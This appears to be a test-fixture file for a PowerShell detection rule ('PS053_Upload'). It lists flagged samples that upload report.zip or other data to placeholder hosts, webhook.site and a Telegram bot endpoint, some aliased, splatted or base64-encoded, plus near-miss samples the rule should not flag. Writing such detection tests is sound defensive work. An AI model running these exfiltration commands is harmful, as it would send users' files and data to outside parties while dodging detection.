# file: bad1.ps1
# ruleid: PS053_Upload
(New-Object Net.WebClient).UploadFile('http://host.example/up', 'report.zip')

# file: bad2.ps1
# ruleid: PS053_Upload
Invoke-RestMethod -Uri https://api.telegram.org/botX/sendDocument -Method Post -Body $data

# file: bad3.ps1
# form: aliased
# ruleid: PS053_Upload
iwr https://host.example/up -Method Put -InFile report.zip

# file: bad4.ps1
# form: splatted
$send = @{ Uri = 'https://webhook.site/1'; Method = 'Post'; Body = $data }
# ruleid: PS053_Upload
Invoke-RestMethod @send

# file: bad5.ps1
# form: aliased, variable
$where = 'https://webhook.site/1'
# ruleid: PS053_Upload
irm $where -Method Post -Body $data

# file: bad6.ps1
# ruleid: PS053_Upload
curl.exe --upload-file report.zip https://host.example/up

# file: bad7.ps1
# form: wrapped
# ruleid: PS053_Upload
powershell -NoProfile -EncodedCommand KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4AVQBwAGwAbwBhAGQARgBpAGwAZQAoACcAaAB0AHQAcAA6AC8ALwBoAG8AcwB0AC4AZQB4AGEAbQBwAGwAZQAvAHUAcAAnACwAIAAnAHIAZQBwAG8AcgB0AC4AegBpAHAAJwApAA==

# file: good1.ps1
# form: near miss
# ok: PS053_Upload
Invoke-RestMethod -Uri https://host.example/api -Method Post -Body $report

# file: good2.ps1
# form: near miss
# ok: PS053_Upload
Invoke-RestMethod -Uri https://host.example/api

# file: good3.ps1
# form: near miss
# ok: PS053_Upload
$client.DownloadFile('https://host.example/a', 'a')
